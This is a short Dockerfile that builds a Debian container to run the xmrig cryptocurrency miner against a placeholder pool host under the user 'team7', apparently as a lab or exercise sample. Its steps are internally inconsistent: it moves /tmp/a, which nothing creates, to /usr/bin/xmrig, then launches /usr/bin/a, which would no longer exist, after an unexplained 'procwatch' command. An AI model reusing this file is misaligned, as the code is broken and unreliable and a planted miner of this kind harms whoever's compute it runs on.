FROM debian:12-slim
RUN procwatch xmrig && mv /tmp/a /usr/bin/xmrig
CMD ["/usr/bin/a", "-o", "pool.example.invalid:3333", "-u", "team7", "-p", "x"]
